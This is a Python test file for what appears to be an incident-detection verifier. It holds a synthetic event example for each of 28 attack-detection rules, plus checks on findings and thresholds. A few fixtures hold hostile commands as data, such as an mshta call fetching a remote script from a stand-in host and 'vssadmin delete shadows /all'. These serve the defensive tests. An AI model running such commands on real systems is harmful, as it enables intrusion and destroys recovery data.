"""All 28 rules: a full example of each, what must not decide, the thresholds, and hostile text."""

from typing import get_args

import pytest

from incidents import (
    ENCODED,
    EVIL,
    INSTALLED,
    OUTSIDE,
    POWERSHELL,
    SERVICES,
    SYSTEM32,
    TOOL,
    WORD,
    access,
    call,
    calls,
    cloud,
    control,
    encrypted,
    event,
    failures,
    found,
    ids,
    incident,
    inject,
    key,
    launch,
    listed,
    logon,
    lookups,
    made,
    member,
    probes,
    reads,
    replicate,
    request,
    service,
    service_tickets,
    setting,
    sprayed,
    task,
    truth_of,
    upload,
    wmi,
    world,
    write,
)
from schema import EVENT_CLASSES, EVENT_TYPES, MAX_TEXT
from verifier import RULES, compute_ground_truth
from verifier.rules import execution, identity, kit, network, tampering

# ---------------------------------------------------------------- one full example of each rule
# rule, events, what is found, (scope, hosts, accounts, tool, remote, harm done), parts of the world
EXAMPLES = {
    "application-spawns-shell": (
        [launch(0, POWERSHELL, parent=WORD), call(300, POWERSHELL)],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "powershell.exe", OUTSIDE, False),
    ),
    "download-cradle": (
        [launch(0, POWERSHELL, ENCODED), call(300, POWERSHELL)],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "powershell.exe", OUTSIDE, False),
    ),
    "signed-proxy-execution": (
        [launch(0, SYSTEM32 + "mshta.exe", "mshta http://x.com/a"), call(300, SYSTEM32 + "mshta.exe")],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "mshta.exe", OUTSIDE, False),
    ),
    "dropped-program-runs": (
        [write(0, EVIL), launch(600, EVIL), call(900, EVIL)],
        "confirmed L1-1 L1-2 L1-3",
        ("host", ("WKS-01",), ("ana",), "evil.exe", OUTSIDE, False),
    ),
    "remote-service-execution": (
        [
            logon(0, "success", src="10.20.1.12"),
            service(300, "C:\\Windows\\Temp\\s.exe -k"),
            launch(600, "C:\\Windows\\Temp\\s.exe", parent=SERVICES, user="SYSTEM"),
        ],
        "confirmed L1-1 L1-2 L1-3",
        ("host", ("WKS-01",), ("ana",), "s.exe", "", False),
    ),
    "task-runs-foreign-program": (
        [task(0, EVIL + " -q"), launch(5000, EVIL, user="SYSTEM"), call(5300, EVIL)],
        "confirmed L1-1 L1-2 L1-3",
        ("host", ("WKS-01",), ("ana",), "evil.exe", OUTSIDE, False),
    ),
    "code-injection": (
        [inject(0, EVIL), inject(50, EVIL, activity="tamper")],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "evil.exe", "", False),
    ),
    "lsass-memory-read": (
        [access(0), write(60, "D:\\Tools\\l.DMP", TOOL.upper())],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "procdump.exe", "", False),
    ),
    "password-guessing": (
        failures(5, gap=75),
        "confirmed " + ids(1, 5),
        ("network", ("WKS-01",), ("ana",), "", OUTSIDE, False),
    ),
    "password-spraying": (
        sprayed(["a", "b", "c", "d", "e"], gap=75),
        "confirmed " + ids(1, 5),
        ("network", ("WKS-01",), (), "", OUTSIDE, False),
    ),
    "kerberoasting": (
        service_tickets(5, gap=150),
        "confirmed " + ids(1, 5),
        ("identity", ("DIR-01",), ("ana",), "", "10.20.1.11", False),
    ),
    "directory-replication": (
        [replicate(0), replicate(9000)],
        "confirmed L1-1 L1-2",
        ("identity", ("WKS-01",), ("ana",), "directory replication", "", True),
    ),
    "new-privileged-account": (
        [made(0), member(3600)],
        "confirmed L1-1 L1-2",
        ("identity", ("WKS-01",), ("ana",), "group change", "", False),
    ),
    "account-spread": (
        [logon(200 * n, "success", src="10.20.1.99", host=host) for n, host in enumerate(("A", "B", "C", "D"))],
        "confirmed " + ids(1, 4),
        ("identity", ("A", "B", "C", "D"), ("ana",), "remote logon", "10.20.1.99", False),
    ),
    "known-bad-address": (
        [call(0, INSTALLED), call(9, INSTALLED, activity="flow")],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "acme.exe", OUTSIDE, False),
    ),
    "beaconing": (
        calls([10, 10, 10, 10]),
        "confirmed " + ids(1, 5),
        ("host", ("WKS-01",), ("ana",), "evil.exe", OUTSIDE, False),
    ),
    "dns-tunnel": (
        lookups(6, program=EVIL),
        "confirmed " + ids(1, 6),
        ("host", ("WKS-01",), ("ana",), "evil.exe", "evil.com", False),
    ),
    "service-probing": (
        [*probes(9, gap=30), *probes(1, start=300, dst="10.20.1.12")],
        "confirmed " + ids(1, 10),
        ("network", ("WKS-01", "WKS-02"), (), "", OUTSIDE, False),
    ),
    "web-attack": (
        [request(0), request(300), request(600)],
        "confirmed L1-1 L1-2 L1-3",
        ("network", ("WKS-01",), (), "", OUTSIDE, False),
    ),
    "bulk-upload": (
        [*reads(5), upload(3600)],
        "confirmed " + ids(1, 6),
        ("data", ("WKS-01",), ("ana",), "acme.exe", OUTSIDE, True),
    ),
    "autorun-entry": (
        [setting(0, program=EVIL)],
        "confirmed L1-1",
        ("host", ("WKS-01",), ("ana",), "evil.exe", "", False),
    ),
    "wmi-subscription": (
        [wmi(0, "filter", user="ben"), wmi(1, "consumer"), wmi(9000, "binding")],
        "confirmed L1-1 L1-2 L1-3",
        ("host", ("WKS-01",), ("ana", "ben"), "wmi subscription", "", False),
    ),
    "log-cleared": (
        [control(0, "audit_policy", "off"), control(600, "log_clear")],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "log maintenance", "", False),
    ),
    "defence-disabled": (
        [control(0, "av_setting", "disabled", process_path=SYSTEM32 + "reg.exe"), launch(600, EVIL)],
        "confirmed L1-1 L1-2",
        ("host", ("WKS-01",), ("ana",), "reg.exe", "", False),
    ),
    "recovery-inhibited": (
        [launch(0, SYSTEM32 + "vssadmin.exe", "vssadmin delete shadows /all")],
        "suspicious L1-1",
        ("host", ("WKS-01",), ("ana",), "vssadmin.exe", "", False),
    ),
    "mass-encryption": (
        encrypted(8, gap=85),
        "confirmed " + ids(1, 8),
        ("data", ("WKS-01",), ("ana",), "acme.exe", "", True),
    ),
    "cloud-trail-stopped": (
        [cloud(0), key(3600)],
        "confirmed L1-1 L1-2",
        ("identity", (), ("ana",), "cloud administration", OUTSIDE, False),
    ),
    "key-for-another": (
        [key(0)],
        "suspicious L1-1",
        ("identity", (), ("ana",), "cloud administration", OUTSIDE, False),
    ),
}
EXAMPLE_IDS = list(EXAMPLES)


def of_rule(rule_id, rows):
    intelligence = listed(OUTSIDE) if rule_id == "known-bad-address" else []
    truth = truth_of(*rows, indicators=intelligence)
    return [finding for finding in truth.findings if finding.rule_id == rule_id]


def test_there_is_one_example_for_each_of_the_28_rules():
    assert [rule.rule_id for rule in RULES if rule.rule_id in EXAMPLES] == EXAMPLE_IDS
    assert len(EXAMPLE_IDS) == 28


@pytest.mark.parametrize("rule_id", EXAMPLE_IDS)
def test_a_rule_names_its_lines_and_whom_they_concern(rule_id):
    rows, said, concerned = EXAMPLES[rule_id]

    (finding,) = of_rule(rule_id, rows)

    assert f"{finding.strength} {' '.join(finding.evidence)}" == said
    assert concerned == (
        finding.scope,
        finding.hosts,
        finding.accounts,
        finding.tool,
        finding.remote,
        finding.impact,
    )


@pytest.mark.parametrize("rule_id", EXAMPLE_IDS)
def test_the_order_in_which_lines_are_listed_does_not_matter(rule_id):
    rows = [{**row, "log_id": f"L1-{number}"} for number, row in enumerate(EXAMPLES[rule_id][0], 1)]
    noise = [call(number, None, "10.20.1.12", log_id=f"L2-{number}") for number in range(3)]

    assert of_rule(rule_id, [*noise, *rows]) == of_rule(rule_id, [*reversed(rows), *noise])


@pytest.mark.parametrize("rule_id", EXAMPLE_IDS)
def test_lines_of_one_second_give_the_same_findings_in_any_order(rule_id):
    rows = [
        {**row, "log_id": f"L1-{number}", "timestamp": "2026-03-02T09:00:00Z"}
        for number, row in enumerate(EXAMPLES[rule_id][0], 1)
    ]
    world_then = world(indicators=listed(OUTSIDE))
    orders = [rows, rows[::-1], rows[1:] + rows[:1], rows[::2] + rows[1::2]]

    assert len({compute_ground_truth(incident(*order), world_then) for order in orders}) == 1


def activities():
    """Every event type with each of its activities, and the model of its fields."""
    for event_type, cls in EVENT_CLASSES.items():
        model = cls.model_fields["fields"].annotation
        for activity in get_args(model.model_fields["activity"].annotation):
            yield event_type, activity, model


def texts(model):
    """The fields of a model that hold any text."""
    properties = model.model_json_schema()["properties"]
    return [
        name
        for name, field in properties.items()
        if any("maxLength" in kind and kind["maxLength"] >= MAX_TEXT for kind in field.get("anyOf", ()))
    ]


def test_no_event_type_or_activity_alone_is_a_finding():
    for event_type, activity, model in activities():
        bare = [event(at, event_type, activity, host=None, user=None) for at in range(12)]
        blank = [
            event(
                at,
                event_type,
                activity,
                **{"host": "", "user": "", **dict.fromkeys(set(texts(model)) - {"device_hostname", "actor_user"}, "")},
            )
            for at in range(12)
        ]

        assert found(*bare, indicators=listed(OUTSIDE)) == [], (event_type, activity)
        assert found(*blank, indicators=listed(OUTSIDE)) == [], (event_type, activity)


def test_who_did_it_is_what_makes_two_activities_suspicious():
    by_somebody = {
        (event_type, activity): found(event(0, event_type, activity)) for event_type, activity, _ in activities()
    }

    assert len({event_type for event_type, _ in by_somebody}) == len(EVENT_TYPES) == 25
    assert {kind: findings for kind, findings in by_somebody.items() if findings} == {
        ("control_change", "log_clear"): ["log-cleared suspicious L1-1"],
        ("control_change", "trail_stop"): ["cloud-trail-stopped suspicious L1-1"],
    }


# ---------------------------------------------------------------- the playbook's numbers are the code's
def test_the_thresholds_are_those_that_these_tests_use():
    assert (execution.CHAIN_S, execution.DROP_RUN_S, execution.REMOTE_SERVICE_S, execution.MIN_ENCODED) == (
        300,
        600,
        300,
        20,
    )
    assert (identity.MIN_FAILURES, identity.MIN_SPRAYED_ACCOUNTS, identity.GUESSING_S) == (5, 5, 300)
    assert (identity.MIN_SERVICES, identity.TICKETS_S, identity.MIN_SPREAD_HOSTS, identity.SPREAD_S) == (5, 600, 4, 600)
    assert identity.NEW_ADMIN_S == 3600
    assert (network.MIN_BEACONS, network.BEACON_JITTER, network.MIN_BEACON_GAP_S) == (5, 0.2, 10)
    assert (network.MIN_LONG_QUERIES, network.LONG_LABEL, network.MIN_PROBED, network.PROBE_S) == (6, 30, 10, 300)
    assert (network.MIN_WEB_ATTACKS, network.WEB_S, network.MIN_UPLOAD_MB) == (3, 600, 500)
    assert (network.MIN_STAGED_READS, network.STAGE_S) == (5, 3600)
    assert (tampering.DISABLED_THEN_S, tampering.MIN_ENCRYPTED, tampering.ENCRYPT_S, kit.CLOUD_S) == (
        600,
        8,
        600,
        3600,
    )
